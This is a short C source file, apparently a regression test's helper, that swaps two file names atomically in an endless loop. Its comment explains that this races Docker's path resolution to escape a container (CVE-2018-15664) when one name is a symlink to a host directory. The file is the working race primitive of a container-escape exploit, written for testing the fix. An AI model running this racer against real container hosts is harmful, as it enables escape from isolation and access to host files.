/* swapper A B: swap the names A and B, atomically, as fast as it can, forever.
 * A test's racer: with A a directory and B a symbolic link to a host directory, every
 * path through A alternates between the two, so a host that resolves a path first and
 * opens it by name later is led outside the container (Docker's CVE-2018-15664). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: swapper A B\n");
        return 2;
    }
    for (;;) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
